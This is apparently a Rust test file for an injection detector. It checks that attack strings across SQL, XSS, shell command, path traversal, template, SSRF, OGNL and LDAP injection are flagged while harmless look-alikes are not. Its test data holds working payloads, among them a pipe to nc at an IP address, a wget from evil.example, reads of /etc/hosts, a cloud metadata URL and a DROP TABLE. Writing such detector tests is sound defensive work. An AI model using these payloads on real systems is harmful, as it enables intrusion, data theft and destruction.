#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test that fails should stop there"
)]

use proptest::prelude::*;

use super::*;

mod innocent;

/// What of `families` is taken for no threat where a parameter is expected.
pub(super) fn missed(families: &[(&str, &[&str])]) -> Vec<String> {
    judged(families, |found| found.verdict == "threat")
}

/// What of `families` is taken for no threat of any of these kinds.
pub(super) fn missed_as(kinds: &[&str], families: &[(&str, &[&str])]) -> Vec<String> {
    judged(families, |found| {
        found.verdict == "threat" && found.kinds.iter().any(|kind| kinds.contains(kind))
    })
}

/// What of `families` is taken for a threat of any of these kinds; it may be one of another.
pub(super) fn imagined_as(kinds: &[&str], families: &[(&str, &[&str])]) -> Vec<String> {
    judged(families, |found| {
        found.verdict != "threat" || !found.kinds.iter().any(|kind| kinds.contains(kind))
    })
}

/// What of `families` is judged wrongly where a parameter is expected.
fn judged(families: &[(&str, &[&str])], right: impl Fn(&Inspected) -> bool) -> Vec<String> {
    let inspector = Inspector::default();
    let every = families.iter().flat_map(|(name, all)| all.iter().map(move |one| (*name, *one)));
    every
        .map(|(name, value)| (name, value, inspector.inspect(value, Channel::Param)))
        .filter(|(_, _, found)| !right(found))
        .map(|(name, value, found)| format!("{name}: {value:?} {found:?}"))
        .collect()
}

/// Attacks, each beside what looks like it and is none. All are written for this test.
const PAIRS: &[(&str, &[&str], &[&str])] = &[
    (
        "sqli",
        &[
            "7 OR 3=3",
            "' or 'q'='q",
            "x') or ('z'='z",
            "9 UNION ALL SELECT name, pass FROM staff",
            "9/**/uNiOn/**/sElEcT/**/1,2",
            "lee'; DROP TABLE bills; --",
            "4 AND SLEEP(9)",
            "4; WAITFOR DELAY '0:0:9'--",
            "root'-- ",
            "' || (select secret from vault) || '",
            "5 order by 12--",
        ],
        &[
            "O'Brien & Sons; Ltd",
            "Please select a colour from the list",
            "rock 'n' roll or jazz",
            "a union of workers selected their speaker",
            "5' 11\" and 6' 2\"",
            "order by Friday, or by Monday at the latest",
            "drop the table off at 5; insert coins",
            "let total = price - discount; // 1 or 2",
        ],
    ),
    (
        "xss",
        &[
            "<script>steal()</script>",
            "<details open ontoggle=go()>",
            "<svg/onload=go()>",
            "\" autofocus onfocus=go() x=\"",
            "javascript:go()",
            "<a href=\"java&#x09;script:go()\">x</a>",
            "<iframe src=//evil.example>",
            "%3Cimg%20src%3Dx%20onerror%3Dgo()%3E",
            "';alert(7)//",
        ],
        &[
            "a < b && c > d",
            "I <3 you",
            "Vec<String> is a list of strings",
            "<b>bold</b> and <i>not</i>",
            "once = 1, online = true",
            "JavaScript: the good parts",
        ],
    ),
    (
        "command",
        &[
            "a.png; cat /etc/hosts",
            "x | nc 10.9.8.7 4444",
            "$(whoami)",
            "`id`",
            "x\nwget http://evil.example/a",
            "w'h'oami && x",
            "cat${IFS}/etc/hosts",
            "& type c:\\secret.txt",
        ],
        &[
            "R&D budget",
            "fish & chips; salt & vinegar",
            "cats; dogs; more cats",
            "Find the sort of thing you like; date it",
            "Use `find` and `cat` to look at files in the folder",
            "C# developer",
            "string's length is no longer that of its bytes",
        ],
    ),
    (
        "path",
        &[
            "../../secret",
            "..%252f..%252fsecret",
            "%2e%2e/%2e%2e/secret",
            "..\\..\\secret",
            "....//....//secret",
            "%c0%ae%c0%ae/secret",
        ],
        &["and so on... / or not", "v1.2..v1.3", "a/b/c.txt", "wait...what", "docs/guide.md"],
    ),
    (
        "ssti",
        &["{{8*8}}", "${8*8}", "<%= 8*8 %>", "#{8*8}", "{{ x.__class__ }}"],
        &["{{ name }}", "${HOME}/bin", "{ a: 1 }", "50% off {today}"],
    ),
    (
        "ssrf",
        &[
            "http://127.0.0.1/admin",
            "http://2130706433/",
            "http://0x7f.1/",
            "http://[::1]:80/",
            "http://169.254.169.254/latest/",
            "gopher://mail.example:25/_x",
        ],
        &["https://example.com/page", "see http://localhost in the guide", "10:30 at 127 Main St"],
    ),
    (
        "nosqli",
        &[
            "{\"$ne\": null}",
            "user[$gt]=",
            "{\"age\": {\"$regex\": \".*\"}}",
            "a'; var b='c",
            "7; let b=8",
            "a'; var b = new Date(); do { c = new Date() } while (c - b < 9000)",
        ],
        &["a; b = c", "7; letter = 8", "costs $5", "{\"price\": \"$5\"}", "array[0]=1"],
    ),
    (
        "object",
        &[
            "(#_memberAccess['allowStaticMethodAccess']=true)",
            "#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#a=7",
            "%23r%3d@org.apache.struts2.ServletActionContext@getRequest()",
            "''.getClass().forName('java.lang.Integer').valueOf('7')",
            "(T(java.lang.Integer).valueOf('7')/((7+7==14)?1:0))",
            "(@java.lang.Integer@valueOf('7')/7)",
            "global.process.mainModule.require('child_process').spawnSync('id')",
        ],
        &[
            "#member access",
            "a@struts.example",
            "#context",
            "obj.getClass()",
            "@java.lang.Override",
        ],
    ),
    (
        "php",
        &["file_put_contents('a.php','x')", "<?php phpinfo();", "7');phpinfo();#"],
        &["put the contents (of it) in a file", "file contents (old)"],
    ),
    (
        "xss",
        &["7;exit(md5('a'));//", "a';exit(md5('a'));#", "a'.exit(md5('a'));//"],
        &["a;b(c)", "see a; run(b); # then", "'a'.join(b) # c"],
    ),
    (
        "xpath",
        &["7')]|//*|/a[contains(a,'b", "' or count(/child::node())=1 or 'a'='b"],
        &["a | b", "a[0]|b[1]", "//a comment"],
    ),
    (
        "ldap",
        &["*)(uid=*", "x)(|(cn=*))", "(&(cn=a)(sn=*))"],
        &["(see below)", "f(x)(y)", "5 * (3 + 2) = 25"],
    ),
];

#[test]
fn attacks_are_told_from_what_looks_like_them() {
    let inspector = Inspector::default();
    let mut wrong = Vec::new();
    for (kind, attacks, innocent) in PAIRS {
        for attack in *attacks {
            let found = inspector.inspect(attack, Channel::Param);
            if found.verdict != "threat" || !found.kinds.contains(kind) {
                wrong.push(format!("{kind} missed: {attack} {found:?}"));
            }
        }
        for value in *innocent {
            let found = inspector.inspect(value, Channel::Param);
            if found.verdict != "clean" {
                wrong.push(format!("{kind} imagined: {value} {found:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn evidence_says_where_and_behind_which_layers() {
    let found = Inspector::default().inspect("q=%2527%2520or%25201=1--", Channel::Param);
    assert_eq!(found.kinds, ["sqli"]);
    assert_eq!(found.evidence[0].decoded, ["url", "url"]);
    assert_eq!(found.evidence[0].span.0, 2);
    assert!(found.evidence[0].span.1 <= 24);
}

#[test]
fn base64_that_stands_alone_is_opened() {
    use base64::Engine as _;
    let hidden = base64::engine::general_purpose::STANDARD.encode("x' or 'a'='a' --");
    let found = Inspector::default().inspect(&hidden, Channel::Param);
    assert_eq!((found.verdict, &*found.evidence[0].decoded), ("threat", &["base64"][..]));
}

/// What is written to keep readers busy.
const BUSY: &[&str] = &[
    "'",
    "\"",
    "<",
    "<a ",
    "<a b='",
    "<script",
    "(",
    "((",
    ")(",
    "$(",
    "`",
    "{{",
    "${",
    "/*",
    "--\n",
    "' or ",
    "union select ",
    "(select ",
    ";drop table ",
    "../",
    "..",
    "..%2f",
    "%25",
    "&#x26;",
    "\\u005c",
    "on",
    " onload=(",
    "javascript:",
    "data:text/html",
    "$ne",
    "a=",
    "eval(",
    "x`",
    "return",
    "<!--#",
    "<style>",
    "<svg>",
    "style=url(",
    "sleep(",
    "*)(",
    "; cat ",
    "\n",
    "\nto:",
    "%c0%ae",
    "{%",
    "#{",
    "@(",
    "[[",
    "db.",
    "O:1:",
    "for ",
    "alert(",
    "'+alert(",
    "\0/",
    "a'b'c",
    "\\nid",
    ";$a",
    "a=b;$a",
    "; sudo -u ",
    " --x",
    "{,a",
    "i`e`x",
    ";\n",
    "| cat ",
    "$!{",
    "__proto__[",
    "//./",
    "%a:~1",
    "=http://",
];

/// Steps are counted, not time: reading twice as much takes twice as many.
#[test]
fn reading_stays_linear_whatever_is_written() {
    for busy in BUSY {
        let count = |length: usize| {
            let value = busy.repeat(length / busy.len());
            let steps = Cell::new(0);
            counted(&value, Channel::Param, &steps);
            steps.get()
        };
        let (half, whole) = (count(64 << 10), count(128 << 10));
        assert!(whole <= half * 2 + 4096, "{busy:?}: {half} steps, then {whole}");
        assert!(whole <= 24 * (128 << 10), "{busy:?}: {whole} steps");
    }
}

proptest! {
    #[test]
    fn no_value_stops_the_inspector(value in "\\PC{0,200}") {
        let found = Inspector::default().inspect(&value, Channel::Text);
        prop_assert!((0.0..=1.0).contains(&found.score));
    }

    #[test]
    fn spans_are_within_the_value(
        parts in prop::collection::vec(prop::sample::select(BUSY), 0..12),
        noise in "[ -~\\n]{0,40}",
    ) {
        let value = parts.concat() + &noise;
        let found = Inspector::default().inspect(&value, Channel::Param);
        for held in found.evidence {
            prop_assert!(held.span.0 <= held.span.1 && held.span.1 <= value.len(), "{held:?}");
        }
    }
}

#[test]
fn what_is_too_long_to_be_read_is_never_called_clean() {
    let inspect = |value: &str| Inspector::default().inspect(value, Channel::Text);
    assert_eq!(inspect(&"abc ".repeat(LENGTH_MAX / 4)).verdict, "clean");
    let found = inspect(&"abc ".repeat(LENGTH_MAX / 4 + 1));
    assert_eq!((found.verdict, &*found.kinds), ("suspicious", &["unread"][..]));
    assert_eq!(found.evidence[0].span, (LENGTH_MAX, LENGTH_MAX + 4));
}
